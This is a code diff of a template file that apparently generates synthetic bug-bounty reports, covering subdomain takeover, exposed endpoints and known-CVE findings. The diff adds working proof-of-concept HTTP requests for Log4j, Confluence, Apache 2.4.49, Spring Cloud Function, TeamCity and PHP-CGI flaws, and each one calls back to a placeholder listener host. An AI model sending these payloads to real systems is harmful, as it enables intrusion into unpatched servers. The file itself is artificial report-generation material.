@@ -13,19 +13,19 @@ const subdomainTakeover: VulnerabilityClass = {
     ['Low', 2],
   ],
   places: [
-    { path: '/', parameter: 'CNAME', detail: 'a page host for static sites' },
-    { path: '/', parameter: 'CNAME', detail: 'a help desk service' },
-    { path: '/', parameter: 'NS', detail: 'a zone that is no longer delegated to anybody' },
-    { path: '/', parameter: 'CNAME', detail: 'a storage bucket in a free region' },
+    { path: '/', parameter: 'CNAME', detail: 'a host for static pages where the name is free' },
+    { path: '/', parameter: 'CNAME', detail: 'a help desk service that was cancelled' },
+    { path: '/', parameter: 'NS', detail: 'name servers that no longer know the zone' },
+    { path: '/', parameter: 'CNAME', detail: 'a storage bucket that was deleted' },
   ],
   titles: [
     'Subdomain takeover of «abandoned».«domain»',
     'Dangling «parameter» record: «abandoned».«domain» can be claimed by anybody',
-    '«abandoned».«domain» points to «detail» that nobody owns',
+    '«abandoned».«domain» still points to «detail»',
     'I own «abandoned».«domain» (takeover, proof inside)',
   ],
   summaries: [
-    'The «parameter» record of `«abandoned».«domain»` points to «detail» which is not registered any more. I registered it and now decide what is shown there.',
+    'The «parameter» record of `«abandoned».«domain»` points to «detail». I claimed it and now decide what is shown there.',
     '`«abandoned».«domain»` answers with "no such site" of a hosting provider. The name was free, so I claimed it to keep others from doing so. Please remove the record; I give the name back at once.',
   ],
   steps: [
@@ -205,7 +205,7 @@ ERRORS_DSN=https://4f2c…@errors.«domain»/7`,
     {
       path: '«collection»?expand=internal',
       parameter: 'expand',
-      detail: 'internal columns',
+      detail: 'an internal view of each record',
       excerpt: `{"id":«otherIdJson»,
   «record»,
   "riskScore": 71,
@@ -216,7 +216,7 @@ ERRORS_DSN=https://4f2c…@errors.«domain»/7`,
     '«Detail» is reachable on «host» (`«path»`)',
     'Information disclosure: `«path»` without authentication',
     'Exposed `«parameter»` on «host» leaks credentials',
-    '`«path»` shows «detail» to everybody',
+    '«path» on «host» is open to everybody: «detail»',
   ],
   summaries: [
     '`https://«host»«path»` answers without a login and shows «detail».',
@@ -280,42 +280,71 @@ const knownComponent: VulnerabilityClass = {
     ['High', 4],
   ],
   places: [
-    { path: '/login', parameter: 'User-Agent', detail: 'Log4j 2.14.1', cve: 'CVE-2021-44228' },
+    {
+      path: '/login',
+      parameter: 'User-Agent',
+      detail: 'Log4j 2.14.1',
+      cve: 'CVE-2021-44228',
+      excerpt: `GET /login HTTP/1.1
+Host: «host»
+User-Agent: \${jndi:ldap://«listener»/«handle»}
+X-Api-Version: \${jndi:dns://«listener»/v}`,
+    },
     {
       path: '/wiki/pages/createpage-entervariables.action',
       parameter: 'queryString',
       detail: 'Confluence 7.12.4',
       cve: 'CVE-2021-26084',
+      excerpt: `POST /wiki/pages/createpage-entervariables.action HTTP/1.1
+Host: «host»
+Content-Type: application/x-www-form-urlencoded
+
+queryString=%5cu0027%2b%7b7*7%7d%2b%5cu0027`,
     },
     {
-      path: '/cgi-bin/.%2e/.%2e/',
+      path: '/cgi-bin/',
       parameter: 'path',
       detail: 'Apache HTTP Server 2.4.49',
       cve: 'CVE-2021-41773',
+      excerpt: `POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1
+Host: «host»
+Content-Type: text/plain
+
+echo; nslookup «listener»`,
     },
     {
       path: '/functionRouter',
       parameter: 'spring.cloud.function.routing-expression',
       detail: 'Spring Cloud Function 3.2.2',
       cve: 'CVE-2022-22963',
+      excerpt: `POST /functionRouter HTTP/1.1
+Host: «host»
+spring.cloud.function.routing-expression: T(java.net.InetAddress).getByName("«listener»")
+Content-Type: text/plain
+
+x`,
     },
     {
       path: '/app/rest/users/id:1/tokens/RPC2',
       parameter: 'path',
       detail: 'TeamCity 2023.05.3',
       cve: 'CVE-2023-42793',
+      excerpt: `POST /app/rest/users/id:1/tokens/RPC2 HTTP/1.1
+Host: «host»
+
+HTTP/1.1 400 Bad Request
+# 400 and not 401: the token exists already, so the check of rights was passed. I created none.`,
     },
     {
       path: '/php-cgi/php-cgi.exe',
       parameter: 'query',
       detail: 'PHP 8.1.28 in CGI mode',
       cve: 'CVE-2024-4577',
-    },
-    {
-      path: '/oauth/idp/.well-known/openid-configuration',
-      parameter: 'Host',
-      detail: 'NetScaler ADC 13.1-48',
-      cve: 'CVE-2023-4966',
+      excerpt: `POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1
+Host: «host»
+Content-Type: text/plain
+
+<?php gethostbyname('«listener»');`,
     },
   ],
   titles: [
@@ -340,17 +369,12 @@ const knownComponent: VulnerabilityClass = {
       {
         say: 'Probe and callback:',
         lang: 'http',
-        code: `GET «path» HTTP/1.1
-Host: «host»
-User-Agent: \${jndi:ldap://«listener»/«handle»}
-X-Api-Version: \${jndi:dns://«listener»/v}
-
-HTTP/1.1 200 OK`,
+        code: '«excerpt»',
       },
       {
         say: 'At the listener:',
         lang: 'text',
-        code: '10:31:07 DNS A «listener» from «ip»\n10:31:08 TCP 389 from «ip», bind request, connection closed by me',
+        code: '10:31:07 DNS A «listener» from «ip»\n10:31:07 DNS AAAA «listener» from «ip»',
       },
     ],
     [
